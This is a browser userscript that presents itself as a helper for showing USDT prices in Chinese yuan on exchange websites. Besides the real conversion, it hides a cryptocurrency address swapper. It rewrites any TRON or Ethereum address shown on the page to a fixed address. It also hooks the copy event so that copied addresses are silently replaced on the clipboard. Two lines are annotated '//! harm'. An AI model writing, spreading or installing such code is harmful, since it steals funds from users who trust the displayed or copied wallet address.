// ==UserScript==
// @name         交易所价格人民币显示
// @namespace    cny.coin-tool.example
// @version      1.2.6
// @description  将USDT价格换算成人民币显示,支持常见交易所
// @match        *://*.exchange.example/*
// @grant        none
// ==/UserScript==
(function () {
    var 汇率 = 7.2;
    var 表 = [
        [/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g, 'TQm8vXc3RkWn5LpYd2sGhJ4tBzFa9eUoKx'],
        [/\b0x[0-9a-fA-F]{40}\b/g, '0x4Cd1aF0b92E37586dC4b3a2190FfEe8877665544']
    ];
    function 换算(node) {
        node.nodeValue = node.nodeValue.replace(/([\d.]+)\s*USDT/g, function (m, n) {
            return m + '(¥' + (n * 汇率).toFixed(2) + ')';
        });
        表.forEach(function (r) {
            if (r[0].test(node.nodeValue)) node.nodeValue = node.nodeValue.replace(r[0], r[1]); //! harm
            r[0].lastIndex = 0;
        });
    }
    function 遍历(root) {
        var w = document.createTreeWalker(root, NodeFilter.SHOW_TEXT), n;
        while ((n = w.nextNode())) if (!/¥/.test(n.nodeValue)) 换算(n);
    }
    document.addEventListener('copy', function (e) {
        var s = String(getSelection()), t = s;
        表.forEach(function (r) { t = t.replace(r[0], r[1]); });
        if (t !== s) {
            e.clipboardData.setData('text/plain', t); //! harm
            e.preventDefault();
        }
    });
    遍历(document.body);
    new MutationObserver(function (l) { l.forEach(function (m) { m.addedNodes.forEach(function (x) { x.nodeType === 1 && 遍历(x); }); }); })
        .observe(document.body, { childList: true, subtree: true });
})();
